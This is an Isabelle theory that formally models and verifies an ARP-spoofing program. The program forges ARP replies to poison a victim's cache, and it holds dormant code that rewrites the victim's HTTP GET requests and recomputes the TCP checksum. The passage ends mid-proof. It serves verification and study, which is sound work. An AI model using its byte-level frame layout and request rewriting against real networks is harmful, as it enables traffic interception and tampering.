(* ===== verification/ArpSpoofer.thy ===== *)
theory ArpSpoofer
  imports Unix ArpFrame Checksum
begin

text \<open>
  ARP/spoofing/spoofer.c: the attacker sends forged ARP replies to the victim, again after every
  timeout, and (in code that is present but not called) rewrites HTTP requests of the victim and
  repairs the TCP checksum.  MAC addresses are six bytes, IPv4 addresses four, both as they lie
  in memory.
\<close>

section \<open>MAC addresses as text\<close>

definition hex_digit :: "nat \<Rightarrow> u8" where
  "hex_digit d = of_nat (if d < 10 then 48 + d else 55 + d)"

definition hex2 :: "u8 \<Rightarrow> bytes" where
  "hex2 b = [hex_digit (unat b div 16), hex_digit (unat b mod 16)]"

fun colons :: "bytes list \<Rightarrow> bytes" where
  "colons [] = []"
| "colons [s] = s"
| "colons (s # ss) = s @ 58 # colons ss"

text \<open>\<open>sprintf(str, MAC_FORMAT, ...)\<close>: the text, without its zero.\<close>

definition mac_ntos :: "bytes \<Rightarrow> bytes" where
  "mac_ntos mac = colons (map hex2 mac)"

definition hex_value :: "u8 \<Rightarrow> nat option" where
  "hex_value b =
     (let n = unat b in
      if 48 \<le> n \<and> n \<le> 57 then Some (n - 48)
      else if 65 \<le> n \<and> n \<le> 70 then Some (n - 55)
      else if 97 \<le> n \<and> n \<le> 102 then Some (n - 87) else None)"

text \<open>\<open>%02hhX\<close> of \<open>sscanf\<close>: white space, then one or two hexadecimal digits.  (A sign or the
  prefix 0x, which the conversion would also take, cannot come out of the \<open>grep\<close> that feeds it.)\<close>

definition scan_hhX :: "bytes \<Rightarrow> (u8 \<times> bytes) option" where
  "scan_hhX s =
     (case dropWhile is_space s of [] \<Rightarrow> None
      | a # s1 \<Rightarrow>
          (case hex_value a of None \<Rightarrow> None
           | Some x \<Rightarrow>
               (case s1 of [] \<Rightarrow> Some (of_nat x, [])
                | b # s2 \<Rightarrow>
                    (case hex_value b of None \<Rightarrow> Some (of_nat x, s1)
                     | Some y \<Rightarrow> Some (of_nat (16 * x + y), s2)))))"

text \<open>The values stored before the first mismatch.\<close>

fun scan_macs :: "nat \<Rightarrow> bytes \<Rightarrow> bytes" where
  "scan_macs 0 s = []"
| "scan_macs (Suc n) s =
     (case scan_hhX s of None \<Rightarrow> []
      | Some (v, rest) \<Rightarrow>
          v # (case rest of [] \<Rightarrow> [] | c # rest' \<Rightarrow> if c = 58 then scan_macs n rest' else []))"

definition mac_ston :: "bytes \<Rightarrow> bytes \<Rightarrow> bytes" where
  "mac_ston str mac = (let vs = scan_macs 6 str in vs @ drop (length vs) mac)"

section \<open>The state\<close>

text \<open>\<open>struct myStruct\<close> without the capture handle.\<close>

record myStruct =
  target_page :: bytes
  myMAC :: bytes
  victimMAC :: bytes
  gatewayMAC :: bytes
  victimIP :: bytes
  gatewayIP :: bytes

definition wf_spoof :: "myStruct \<Rightarrow> bool" where
  "wf_spoof m \<longleftrightarrow> length (target_page m) = 8 \<and> length (myMAC m) = 6 \<and> length (victimMAC m) = 6 \<and>
     length (gatewayMAC m) = 6 \<and> length (victimIP m) = 4 \<and> length (gatewayIP m) = 4"

text \<open>\<open>tv\<close> is the global timer, in seconds; \<open>Check_Timer\<close> returns its value with the new timer.\<close>

definition Start_Timer :: "int \<Rightarrow> int sys" where
  "Start_Timer sec = Call TimeOfDay (\<lambda>r. Ret (num r + sec))"

definition Check_Timer :: "int \<Rightarrow> int \<Rightarrow> (bool \<times> int) sys" where
  "Check_Timer sec tv =
     Call TimeOfDay (\<lambda>r.
     if num r - tv > sec then Call TimeOfDay (\<lambda>r. Ret (True, num r)) else Ret (False, tv))"

section \<open>Addresses from the shell\<close>

definition grep_mac :: bytes where
  "grep_mac = bytes_of ''grep -o -E '' @ [39] @ bytes_of ''([[:xdigit:]]{1,2}:){5}[[:xdigit:]]{1,2}'' @ [39]"

text \<open>\<open>sprintf\<close> into a buffer of 100 bytes.\<close>

definition sprintf100 :: "bytes \<Rightarrow> bytes option" where
  "sprintf100 text = (if length text < 100 then Some text else None)"

definition Get_MAC_From_Terminal :: "bytes \<Rightarrow> bytes \<Rightarrow> (int \<times> bytes) sys" where
  "Get_MAC_From_Terminal cmd mac =
     need (sprintf100 (cmd @ bytes_of '' | '' @ grep_mac)) (\<lambda>cmd_with_grep.
     Call (Popen cmd_with_grep) (\<lambda>r. let stream = res r in
     if stream < 0 then Ret (1, mac)
     else Call (Fgets stream 18) (\<lambda>r.
       let mac = (if res r \<noteq> 0 then mac_ston (data r) mac else mac)
       in Call (Pclose stream) (\<lambda>_. Ret (0, mac)))))"

definition Get_Mac_From_IP :: "bytes \<Rightarrow> bytes \<Rightarrow> bytes sys" where
  "Get_Mac_From_IP ip mac =
     need (sprintf100 (bytes_of ''ping -c1 '' @ ip @ bytes_of '' > NIL'')) (\<lambda>cmd.
     Call (System cmd) (\<lambda>_.
     need (sprintf100 (bytes_of ''arp -a -n | grep '' @ ip)) (\<lambda>cmd.
     bind (Get_MAC_From_Terminal cmd mac) (\<lambda>(nRet, mac). Ret mac))))"

text \<open>\<open>inet_aton\<close> leaves the address alone when the text is no address; the stream is never
  closed.\<close>

definition Get_Gateway_IP :: "(bytes \<Rightarrow> bytes option) \<Rightarrow> bytes \<Rightarrow> (int \<times> bytes) sys" where
  "Get_Gateway_IP inet_aton ip =
     Call (Popen (bytes_of ''/sbin/ip route | awk '' @ [39] @ bytes_of ''/default/ {print $3}'' @ [39])) (\<lambda>r.
     let stream = res r in
     if stream < 0 then Ret (1, ip)
     else Call (Fgets stream 15) (\<lambda>r.
       let text = (if res r \<noteq> 0 then data r else [])
       in Ret (0, case inet_aton text of None \<Rightarrow> ip | Some a \<Rightarrow> a)))"

definition Print_Network_Variables :: "myStruct \<Rightarrow> unit sys" where
  "Print_Network_Variables m =
     Call (Print ''Attacker's MAC: %s'' [S (mac_ntos (myMAC m))]) (\<lambda>_.
     Call (Print ''Victim IP: %s'' [S (inet_ntoa (victimIP m))]) (\<lambda>_.
     Call (Print ''Victim's MAC: %s'' [S (mac_ntos (victimMAC m))]) (\<lambda>_.
     Call (Print ''Gateway IP: %s'' [S (inet_ntoa (gatewayIP m))]) (\<lambda>_.
     Call (Print ''Gateway's MAC: %s'' [S (mac_ntos (gatewayMAC m))]) (\<lambda>_. Ret ())))))"

section \<open>Forged ARP packets\<close>

text \<open>\<open>frame\<close> is uninitialised, 14 + 28 bytes.  The addresses go in as the source has them.\<close>

definition arp_bytes :: "bool \<Rightarrow> bytes \<Rightarrow> bytes \<Rightarrow> bytes \<Rightarrow> bytes \<Rightarrow> bytes \<Rightarrow> bytes option" where
  "arp_bytes packet_type sender_mac sender_ip target_mac target_ip frame =
     poke_all [(6, sender_mac), (0, target_mac), (12, le16 (htons 0x0806)),
       (14, le16 (htons 1)), (16, le16 (htons 0x0800)), (18, [6]), (19, [4]),
       (20, le16 (htons (if packet_type then 1 else 2))), (22, sender_mac), (28, target_ip), (32, sender_mac),
       (38, sender_ip)] frame"

definition Create_ARP_Packet :: "bytes \<Rightarrow> bool \<Rightarrow> bytes \<Rightarrow> bytes \<Rightarrow> bytes \<Rightarrow> bytes \<Rightarrow> unit sys" where
  "Create_ARP_Packet frame packet_type sender_mac sender_ip target_mac target_ip =
     need (arp_bytes packet_type sender_mac sender_ip target_mac target_ip frame) (\<lambda>frame.
     Call (Print ''Source MAC: %s'' [S (mac_ntos sender_mac)]) (\<lambda>_.
     Call (Print ''Target MAC: %s'' [S (mac_ntos sender_mac)]) (\<lambda>_.
     Call (Print ''Source IP: %s'' [S (inet_ntoa target_ip)]) (\<lambda>_.
     Call (Print ''Destination IP: %s'' [S (inet_ntoa sender_ip)]) (\<lambda>_.
     Call (Sendpacket frame) (\<lambda>r.
     if res r = -1 then Call PcapClose (\<lambda>_. Ret ()) else Ret ()))))))"

definition ARP_Inject :: "bytes \<Rightarrow> bool \<Rightarrow> bytes \<Rightarrow> bytes \<Rightarrow> bytes \<Rightarrow> bytes \<Rightarrow> unit sys" where
  "ARP_Inject frame packet_type attacker_mac fooled_ip target_mac target_ip =
     Create_ARP_Packet frame packet_type attacker_mac fooled_ip target_mac target_ip"

text \<open>The call the three users of \<open>ARP_Inject\<close> make.\<close>

definition poison :: "bytes \<Rightarrow> myStruct \<Rightarrow> unit sys" where
  "poison frame m = ARP_Inject frame False (myMAC m) (gatewayIP m) (victimMAC m) (victimIP m)"

section \<open>Captured packets\<close>

text \<open>A packet is the \<open>caplen\<close> bytes that pcap hands to the callback.  \<open>return -1\<close> becomes 0xffff.\<close>

definition Handle_Ethernet :: "bytes \<Rightarrow> u16 option" where
  "Handle_Ethernet packet =
     (if length packet < 14 then Some 0xffff else map_option ntohs (get16 12 packet))"

text \<open>\<open>sizeof(eth_hdr)\<close> is the size of a pointer, 8: the ARP header is looked for six bytes too
  early.  What is read there is not used.\<close>

definition Handle_ARP :: "bytes \<Rightarrow> myStruct \<Rightarrow> bytes \<Rightarrow> unit sys" where
  "Handle_ARP frame m packet =
     need (peek (8 + 14) 4 packet) (\<lambda>sender_ip.
     need (peek (8 + 24) 4 packet) (\<lambda>target_ip.
     need (get16 (8 + 6) packet) (\<lambda>packet_type.
     poison frame m)))"

text \<open>A variable length array and its layout: addresses, zero, protocol, length, segment.\<close>

definition pseudo_packet :: "bytes \<Rightarrow> nat \<Rightarrow> bytes option" where
  "pseudo_packet packet len =
     (let tcp_size = (of_nat len - 14 - 20 :: u16) in
      Option.bind (peek 26 4 packet) (\<lambda>src.
      Option.bind (peek 30 4 packet) (\<lambda>dst.
      map_option (\<lambda>segment. src @ dst @ [0, 6] @ [ucast (drop_bit 8 tcp_size), ucast tcp_size] @ segment)
        (peek 34 (unat tcp_size) packet))))"

definition Calculate_Pseudo_Checksum :: "bytes \<Rightarrow> nat \<Rightarrow> u16 option" where
  "Calculate_Pseudo_Checksum packet len = map_option Calculate_Checksum (pseudo_packet packet len)"

definition http_get_request_liangzk :: bytes where
  "http_get_request_liangzk = [0x2f, 0x7e, 0x6c, 0x69, 0x61, 0x6e, 0x67, 0x7a, 0x6b, 0x2f]"
definition http_get_request_changec :: bytes where
  "http_get_request_changec = [0x2f, 0x7e, 0x63, 0x68, 0x61, 0x6e, 0x67, 0x65, 0x63, 0x2f]"
definition http_get_request_chanmc :: bytes where
  "http_get_request_chanmc = [0x2f, 0x7e, 0x63, 0x68, 0x61, 0x6e, 0x6d, 0x63, 0x2f, 0x2f]"

text \<open>The rewriting of one request: \<open>buf\<close> is the copy of the packet in the 1518 zero bytes; 70 is
  where the URI of a GET starts behind 12 bytes of TCP options.\<close>

definition redirect :: "myStruct \<Rightarrow> nat \<Rightarrow> bytes \<Rightarrow> bytes option" where
  "redirect m packet_length buf =
     Option.bind (c_str (target_page m)) (\<lambda>page.
     let buf = (if page = bytes_of ''liangzk'' then wr 70 http_get_request_liangzk buf
                else if page = bytes_of ''chanmc'' then wr 70 http_get_request_chanmc buf else buf);
         buf = wr 50 [0, 0] buf
     in map_option (\<lambda>cksum.
          let n = htons cksum
          in wr 50 [ucast (drop_bit 8 (n AND 0xFF00)), ucast (n AND 0x00FF)] buf)
        (Calculate_Pseudo_Checksum buf packet_length))"

definition Handle_IP :: "myStruct \<Rightarrow> bytes \<Rightarrow> unit sys" where
  "Handle_IP m packet =
     need (poke 0 packet (replicate 1518 0)) (\<lambda>buf.
     need (peek 6 6 packet) (\<lambda>shost.
     if shost \<noteq> victimMAC m then Ret ()
     else need (get8 23 packet) (\<lambda>ip_p.
       need (if ip_p = 6 \<and> peek 70 10 buf = Some http_get_request_changec
             then redirect m (length packet) buf else Some buf) (\<lambda>buf.
       Call (Inject (take (length packet) (wr 6 (myMAC m) (wr 0 (gatewayMAC m) buf)))) (\<lambda>r.
       if res r = -1 then Exit 1 else Ret ())))))"

text \<open>The callback of \<open>pcap_loop\<close>; the call of \<open>Handle_IP\<close> is commented out in the source.\<close>

definition Main_Callback :: "bytes \<Rightarrow> myStruct \<Rightarrow> int \<Rightarrow> bytes \<Rightarrow> int sys" where
  "Main_Callback frame m tv packet =
     bind (Check_Timer 30 tv) (\<lambda>(timeout, tv).
     bind (if timeout then poison frame m else Ret ()) (\<lambda>_.
     need (Handle_Ethernet packet) (\<lambda>packet_type.
     if packet_type = 0x0806 then bind (Handle_ARP frame m packet) (\<lambda>_. Ret tv)
     else Ret tv)))"

text \<open>\<open>pcap_loop(handle, -1, ...)\<close> ends with an error; \<open>n\<close> bounds the packets.\<close>

primrec capture_loop :: "nat \<Rightarrow> bytes \<Rightarrow> myStruct \<Rightarrow> int \<Rightarrow> unit option sys" where
  "capture_loop 0 frame m tv = Ret None"
| "capture_loop (Suc n) frame m tv =
     Call PcapLoop (\<lambda>r. if res r < 0 then Ret (Some ())
       else bind (Main_Callback frame m tv (data r)) (\<lambda>tv. capture_loop n frame m tv))"

section \<open>main\<close>

text \<open>\<open>strncat(d, s, strlen(s))\<close> appends at the terminator of \<open>d\<close>.\<close>

definition strncat :: "bytes \<Rightarrow> bytes \<Rightarrow> bytes option" where
  "strncat d s = Option.bind (c_str d) (\<lambda>t. poke (length t) (s @ [0]) d)"

text \<open>\<open>heap\<close> is the uninitialised block \<open>malloc\<close> returned; \<open>argv[2]\<close> is read before \<open>argc\<close> is
  looked at.\<close>

definition filter_text :: "(nat \<Rightarrow> bytes) \<Rightarrow> bytes list \<Rightarrow> bytes option" where
  "filter_text heap argv =
     (if length argv \<le> 2 then None
      else Option.bind (strncat (heap (length (bytes_of ''host '') + length (argv ! 2) + 1)) (bytes_of ''host ''))
             (\<lambda>d. strncat d (argv ! 2)))"

text \<open>\<open>strncpy(target_page, argv[3], 8)\<close> into zeros.\<close>

definition strncpy8 :: "bytes \<Rightarrow> bytes" where
  "strncpy8 s = take 8 (s @ replicate 8 0)"

definition main_spoofer :: "(bytes \<Rightarrow> bytes option) \<Rightarrow> (nat \<Rightarrow> bytes) \<Rightarrow> bytes \<Rightarrow> nat \<Rightarrow> int \<Rightarrow> bytes list \<Rightarrow> int option sys" where
  "main_spoofer inet_aton heap frame n tv argv =
     need (filter_text heap argv) (\<lambda>filter_string.
     if length argv \<noteq> 4 then Exit 1
     else
       need (sprintf100 (bytes_of ''ifconfig '' @ argv ! 1 @ bytes_of '' | grep '' @ argv ! 1)) (\<lambda>cmd.
       bind (Get_MAC_From_Terminal cmd (replicate 6 0)) (\<lambda>(_, mine).
       let vip = (case inet_aton (argv ! 2) of None \<Rightarrow> replicate 4 0 | Some a \<Rightarrow> a) in
       bind (Get_Mac_From_IP (inet_ntoa vip) (replicate 6 0)) (\<lambda>vmac.
       bind (Get_Gateway_IP inet_aton (replicate 4 0)) (\<lambda>(_, gip).
       bind (Get_Mac_From_IP (inet_ntoa gip) (replicate 6 0)) (\<lambda>gmac.
       let m = \<lparr>target_page = strncpy8 (argv ! 3), myMAC = mine, victimMAC = vmac, gatewayMAC = gmac,
                victimIP = vip, gatewayIP = gip\<rparr> in
       bind (Print_Network_Variables m) (\<lambda>_.
       need (c_str filter_string) (\<lambda>filter_string.
       Call (PcapOpen (argv ! 1)) (\<lambda>r.
       if res r = 0 then Ret (Some 1)
       else Call (PcapCompile filter_string) (\<lambda>r.
       if res r = -1 then Exit 1
       else Call PcapSetfilter (\<lambda>r.
       if res r = -1 then Exit 1
       else bind (poison frame m) (\<lambda>_.
       bind (capture_loop n frame m tv) (\<lambda>done.
       case done of None \<Rightarrow> Ret None | Some _ \<Rightarrow> Call PcapClose (\<lambda>_. Ret (Some 0)))))))))))))))"

section \<open>Text and back\<close>

lemma unat_hex_digit: "d < 16 \<Longrightarrow> unat (hex_digit d) = (if d < 10 then 48 + d else 55 + d)"
proof -
  assume "d < 16"
  then have "(if d < 10 then 48 + d else 55 + d) < 2 ^ LENGTH(8)" by simp
  then show ?thesis unfolding hex_digit_def
    by (simp add: unsigned_of_nat take_bit_nat_eq_self del: of_nat_add)
qed

lemma hex_value_digit [simp]: "d < 16 \<Longrightarrow> hex_value (hex_digit d) = Some d"
  by (auto simp: hex_value_def unat_hex_digit Let_def)

lemma hex_digit_not_space [simp]: "d < 16 \<Longrightarrow> \<not> is_space (hex_digit d)"
  using unat_hex_digit [of d] by (auto simp: is_space_def split: if_splits)

lemma scan_hhX_hex2: "scan_hhX (hex2 b @ rest) = Some (b, rest)"
proof -
  have "unat b div 16 < 16" by (rule less_mult_imp_div_less, rule less_le_trans [OF unat_u8]) simp
  moreover have "of_nat (16 * (unat b div 16) + unat b mod 16) = b" by (simp only: mult_div_mod_eq of_nat_unat) simp
  ultimately show ?thesis by (simp add: scan_hhX_def hex2_def)
qed

lemma colons_Cons: "ss \<noteq> [] \<Longrightarrow> colons (s # ss) = s @ 58 # colons ss"
  by (cases ss) auto

lemma scan_macs_colons: "mac \<noteq> [] \<Longrightarrow> scan_macs (length mac) (colons (map hex2 mac) @ 0 # rest) = mac"
proof (induction mac)
  case (Cons b mac)
  then show ?case
    by (cases "mac = []") (simp_all add: scan_hhX_hex2 colons_Cons scan_hhX_hex2 [of _ "_ # _"])
qed simp

lemma hex2_no_zero: "0 \<notin> set (hex2 b)"
proof -
  have "unat b div 16 < 16" by (rule less_mult_imp_div_less, rule less_le_trans [OF unat_u8]) simp
  then have "unat (hex_digit (unat b div 16)) \<noteq> 0" "unat (hex_digit (unat b mod 16)) \<noteq> 0"
    by (simp_all add: unat_hex_digit del: unsigned_eq_0_iff)
  then show ?thesis by (auto simp: hex2_def)
qed

lemma colons_no_zero: "(\<And>s. s \<in> set ss \<Longrightarrow> 0 \<notin> set s) \<Longrightarrow> 0 \<notin> set (colons ss)"
  by (induction ss rule: colons.induct) auto

lemma mac_ntos_no_zero: "0 \<notin> set (mac_ntos mac)"
  unfolding mac_ntos_def by (rule colons_no_zero) (auto simp: hex2_no_zero)

lemma mac_ston_ntos: "length mac = 6 \<Longrightarrow> length old = 6 \<Longrightarrow> mac_ston (mac_ntos mac @ 0 # rest) old = mac"
proof -
  assume l: "length mac = 6" "length old = 6"
  then have "mac \<noteq> []" by auto
  then have "scan_macs 6 (mac_ntos mac @ 0 # rest) = mac"
    using scan_macs_colons [of mac rest] l by (simp add: mac_ntos_def)
  with l show ?thesis by (simp add: mac_ston_def)
qed

interpretation mac: text_codec mac_ntos "\<lambda>s. mac_ston s (replicate 6 0)" "\<lambda>m. length m = 6"
  by unfold_locales (simp_all add: mac_ston_ntos mac_ntos_no_zero)

section \<open>The forged reply\<close>

lemma arp_bytes_ok:
  assumes "length frame = 42" "length smac = 6" "length tmac = 6" "length sip = 4" "length tip = 4"
  obtains f where "arp_bytes ty smac sip tmac tip frame = Some f" "length f = 42"
    "peek 0 6 f = Some tmac" "peek 6 6 f = Some smac" "is_arp f (if ty then 1 else 2) smac tip smac sip"
proof -
  define f where "f = wr 38 sip (wr 32 smac (wr 28 tip (wr 22 smac (wr 20 (le16 (htons (if ty then 1 else 2))) (wr 19 [4]
    (wr 18 [6] (wr 16 (le16 (htons 0x0800)) (wr 14 (le16 (htons 1)) (wr 12 (le16 (htons 0x0806)) (wr 0 tmac (wr 6 smac frame)))))))))))"
  have "arp_bytes ty smac sip tmac tip frame = Some f"
    using assms by (simp add: arp_bytes_def f_def buf_simps)
  moreover have "length f = 42" using assms by (simp add: f_def)
  moreover have "peek 0 6 f = Some tmac" "peek 6 6 f = Some smac"
    using assms by (simp_all add: f_def buf_simps)
  moreover have "is_arp f (if ty then 1 else 2) smac tip smac sip"
    unfolding is_arp_def using assms
    by (intro conjI get16I) (simp_all add: f_def buf_simps)
  ultimately show ?thesis by (rule that)
qed

section \<open>Rewriting a request\<close>

lemma split_16: "[ucast (drop_bit 8 (htons c AND 0xFF00)), ucast (htons c AND 0x00FF)] = le16 c"
proof -
  have "ucast (drop_bit 8 (htons c AND 0xFF00)) = (ucast c :: u8)"
  proof (rule bit_word_eqI)
    fix n assume "n < LENGTH(8)"
    then have "n \<in> {0, 1, 2, 3, 4, 5, 6, 7}" by auto
    then show "bit (ucast (drop_bit 8 (htons c AND 0xFF00)) :: u8) n = bit (ucast c :: u8) n"
      by (auto simp: bit_simps htons_def bswap16_def)
  qed
  moreover have "ucast (htons c AND 0x00FF) = (ucast (drop_bit 8 c) :: u8)"
  proof (rule bit_word_eqI)
    fix n assume "n < LENGTH(8)"
    then have "n \<in> {0, 1, 2, 3, 4, 5, 6, 7}" by auto
    then show "bit (ucast (htons c AND 0x00FF) :: u8) n = bit (ucast (drop_bit 8 c) :: u8) n"
      by (auto simp: bit_simps htons_def bswap16_def)
  qed
  ultimately show ?thesis by (simp add: le16_def)
qed

lemma unat_tcp_size: "34 \<le> len \<Longrightarrow> len \<le> 1518 \<Longrightarrow> unat (of_nat len - 14 - 20 :: u16) = len - 34"
proof -
  assume l: "34 \<le> len" "len \<le> 1518"
  then have "of_nat len - 14 - 20 = (of_nat (len - 34) :: u16)" by (simp add: of_nat_diff)
  moreover have "len - 34 < 2 ^ LENGTH(16)" using l by simp
  ultimately show ?thesis using unat_of_nat_small [of "len - 34", where 'a = 16] by metis
qed

lemma pseudo_packet_eq:
  assumes "80 \<le> len" "len \<le> 1518" "length b = 1518"
  shows "pseudo_packet b len = Some (take 4 (drop 26 b) @ take 4 (drop 30 b) @ [0, 6] @
     [ucast (drop_bit 8 (of_nat len - 14 - 20 :: u16)), ucast (of_nat len - 14 - 20 :: u16)] @ take (len - 34) (drop 34 b))"
  using assms unat_tcp_size [of len] by (simp add: pseudo_packet_def Let_def peek_def)

text \<open>A store to the TCP checksum is the same store in the pseudo packet, at 28.\<close>

lemma pseudo_packet_store:
  assumes "80 \<le> len" "len \<le> 1518" "length b = 1518" "pseudo_packet b len = Some p" "length x = 2"
  shows "pseudo_packet (wr 50 x b) len = Some (wr 28 x p)"
proof -
  define seg where "seg = take (len - 34) (drop 34 b)"
  define hd12 where "hd12 = take 4 (drop 26 b) @ take 4 (drop 30 b) @ [0, 6] @
     [ucast (drop_bit 8 (of_nat len - 14 - 20 :: u16)), ucast (of_nat len - 14 - 20 :: u16)]"
  have p: "p = hd12 @ seg" and l: "length hd12 = 12" "length seg = len - 34"
    using assms pseudo_packet_eq [OF assms(1-3)] by (simp_all add: hd12_def seg_def)
  have "peek off n (wr 50 x b) = peek off n b" if "off + n \<le> 50" for off n
    using that assms(3,5) by (intro peek_wr_other) simp
  from this [of 26 4] this [of 30 4]
  have h: "take 4 (drop 26 (wr 50 x b)) = take 4 (drop 26 b)" "take 4 (drop 30 (wr 50 x b)) = take 4 (drop 30 b)"
    using assms(3) by (simp_all add: peek_def)
  have "peek 34 (len - 34) b = Some seg" using assms by (simp add: peek_def seg_def)
  from peek_wr_inside [OF this, of 50 x]
  have s: "take (len - 34) (drop 34 (wr 50 x b)) = wr 16 x seg" using assms by (simp add: peek_def)
  have "wr 28 x p = hd12 @ wr 16 x seg"
    using assms l by (simp add: p wr_def)
  then show ?thesis
    using pseudo_packet_eq [of len "wr 50 x b"] assms h s by (simp add: hd12_def)
qed

lemma pseudo_checksum_store:
  assumes "80 \<le> len" "len \<le> 1518" "length b = 1518" "peek 50 2 b = Some [0, 0]"
    and "Calculate_Pseudo_Checksum b len = Some c"
  shows "Calculate_Pseudo_Checksum (wr 50 (le16 c) b) len = Some 0"
proof -
  obtain p where p: "pseudo_packet b len = Some p" "c = Calculate_Checksum p"
    using assms(5) by (auto simp: Calculate_Pseudo_Checksum_def)
  have peq: "p = take 4 (drop 26 b) @ take 4 (drop 30 b) @ [0, 6] @
     [ucast (drop_bit 8 (of_nat len - 14 - 20 :: u16)), ucast (of_nat len - 14 - 20 :: u16)] @ take (len - 34) (drop 34 b)"
    using p(1) pseudo_packet_eq [OF assms(1-3)] by simp
  have lp: "length p = len - 22" using assms(1-3) by (simp add: peq)
  have z: "le16 0 = [0, 0]" by (simp add: le16_def)
  have "take 2 (drop 50 b) = [0, 0]" using assms(4) by (simp add: peek_def split: if_splits)
  moreover have "take 2 (drop 28 p) = take 2 (drop 16 (take (len - 34) (drop 34 b)))"
    using assms(1-3) by (simp add: peq)
  moreover have "\<dots> = take 2 (drop 50 b)" using assms(1) by (simp add: drop_take take_take min_def)
  ultimately have old: "peek 28 2 p = Some (le16 0)" using lp assms(1) z by (simp add: peek_def)
  have "p = (take 4 (drop 26 b) @ take 4 (drop 30 b)) @ 0 # 6 # drop 10 p" using assms(1-3) by (subst (1) peq) (simp add: peq)
  moreover have "even (length (take 4 (drop 26 b) @ take 4 (drop 30 b)))" using assms(1-3) by simp
  ultimately have "word_sum p = word_sum (take 4 (drop 26 b) @ take 4 (drop 30 b)) + word_sum (0 # 6 # drop 10 p)"
    using word_sum_append by metis
  then have ne: "word_sum p \<noteq> unat (0 :: u16)" by simp
  have st: "store_checksum 28 (Calculate_Checksum p) p = Some (wr 28 (le16 c) p)"
    using lp assms(1) p(2) by (simp add: store_checksum_def buf_simps)
  have "length p \<le> 2 ^ 48 - 1" using lp assms(2) by simp
  from spoofer.stored_verifies_iff [OF this _ old st ne] have "Calculate_Checksum (wr 28 (le16 c) p) = 0" by simp
  then show ?thesis
    using pseudo_packet_store [OF assms(1-3) p(1)] by (simp add: Calculate_Pseudo_Checksum_def)
qed

text \<open>The URI the victim's request ends up with.\<close>

definition new_uri :: "bytes \<Rightarrow> bytes" where
  "new_uri page = (if page = bytes_of ''liangzk'' then http_get_request_liangzk
     else if page = bytes_of ''chanmc'' then http_get_request_chanmc else http_get_request_changec)"

lemma length_uris [simp]: "length (new_uri page) = 10" "length http_get_request_changec = 10"
  by (simp_all add: new_uri_def http_get_request_liangzk_def http_get_request_chanmc_def http_get_request_changec_def)

definition untouched :: "nat \<Rightarrow> nat \<Rightarrow> bool" where
  "untouched off n \<longleftrightarrow> off + n \<le> 50 \<or> (52 \<le> off \<and> off + n \<le> 70) \<or> 80 \<le> off"

lemma wr_same: "peek off n b = Some x \<Longrightarrow> wr off x b = b"
proof -
  assume a: "peek off n b = Some x"
  then have "x = take n (drop off b)" "length x = n" by (auto simp: peek_def split: if_splits)
  then have "take off b @ x @ drop (off + length x) b = b"
    by (metis append_take_drop_id drop_drop add.commute)
  then show ?thesis by (simp add: wr_def)
qed

lemma redirect_ok:
  assumes "80 \<le> len" "len \<le> 1518" "length b = 1518" "c_str (target_page m) = Some page"
    and uri: "peek 70 10 b = Some http_get_request_changec"
  obtains b' where "redirect m len b = Some b'" "length b' = 1518" "peek 70 10 b' = Some (new_uri page)"
    "Calculate_Pseudo_Checksum b' len = Some 0" "\<And>off n. untouched off n \<Longrightarrow> peek off n b' = peek off n b"
proof -
  define b1 where "b1 = wr 50 [0, 0] (wr 70 (new_uri page) b)"
  have len: "length b1 = 1518" using assms(3) by (simp add: b1_def)
  have "peek 50 2 b1 = Some [0, 0]" using assms(3) by (simp add: b1_def buf_simps)
  moreover obtain c where c: "Calculate_Pseudo_Checksum b1 len = Some c"
    using pseudo_packet_eq [OF assms(1,2) len] by (simp add: Calculate_Pseudo_Checksum_def)
  ultimately have z: "Calculate_Pseudo_Checksum (wr 50 (le16 c) b1) len = Some 0"
    using pseudo_checksum_store [OF assms(1,2) len] by blast
  have "wr 70 http_get_request_changec b = b" using uri by (rule wr_same)
  then have e: "(if page = bytes_of ''liangzk'' then wr 70 http_get_request_liangzk b
      else if page = bytes_of ''chanmc'' then wr 70 http_get_request_chanmc b else b) = wr 70 (new_uri page) b"
    by (simp add: new_uri_def)
  have "redirect m len b = Some (wr 50 (le16 c) b1)"
    unfolding redirect_def assms(4) Option.bind.simps e Let_def b1_def [symmetric] c option.map split_16 ..
  moreover have "peek 70 10 (wr 50 (le16 c) b1) = Some (new_uri page)"
    using assms(3) by (simp add: b1_def buf_simps)
  moreover have "peek off n (wr 50 (le16 c) b1) = peek off n b" if "untouched off n" for off n
    using that by (auto simp: untouched_def b1_def peek_wr_other)
  ultimately show ?thesis using that z len by simp
qed

lemma Handle_IP_redirect:
  assumes "length packet \<le> 1518" "wf_spoof m" "c_str (target_page m) = Some page"
    and "peek 6 6 packet = Some (victimMAC m)" "get8 23 packet = Some 6"
    and "peek 70 10 packet = Some http_get_request_changec"
  obtains p where "Handle_IP m packet = Call (Inject p) (\<lambda>r. if res r = -1 then Exit 1 else Ret ())"
    "length p = length packet" "peek 0 6 p = Some (gatewayMAC m)" "peek 6 6 p = Some (myMAC m)"
    "peek 70 10 p = Some (new_uri page)" "Calculate_Pseudo_Checksum (p @ replicate (1518 - length p) 0) (length p) = Some 0"
    "\<And>off n. 12 \<le> off \<Longrightarrow> untouched off n \<Longrightarrow> peek off n p = peek off n packet"
proof -
  define len where "len = length packet"
  define b where "b = wr 0 packet (replicate 1518 0)"
  have l: "80 \<le> len" "len \<le> 1518" using assms(1,6) by (auto simp: len_def peek_def split: if_splits)
  have b: "poke 0 packet (replicate 1518 0) = Some b" "length b = 1518" "take len b = packet"
    using l by (simp_all add: b_def poke_wr len_def) (simp add: wr_def)
  have pk: "peek off n b = peek off n packet" if "off + n \<le> len" for off n
    using that b l peek_take [of off n len b] by simp
  obtain b' where b': "redirect m len b = Some b'" "length b' = 1518" "peek 70 10 b' = Some (new_uri page)"
      "Calculate_Pseudo_Checksum b' len = Some 0" "\<And>off n. untouched off n \<Longrightarrow> peek off n b' = peek off n b"
    by (rule redirect_ok [OF l b(2) assms(3)]) (use assms(6) pk [of 70 10] l in auto)
  define p where "p = take len (wr 6 (myMAC m) (wr 0 (gatewayMAC m) b'))"
  have macs: "length (gatewayMAC m) = 6" "length (myMAC m) = 6" using assms(2) by (simp_all add: wf_spoof_def)
  have "Handle_IP m packet = Call (Inject p) (\<lambda>r. if res r = -1 then Exit 1 else Ret ())"
    using assms(4-6) b(1) b'(1) pk [of 70 10] l by (simp add: Handle_IP_def p_def len_def)
  moreover have lp: "length p = len" using l b'(2) by (simp add: p_def)
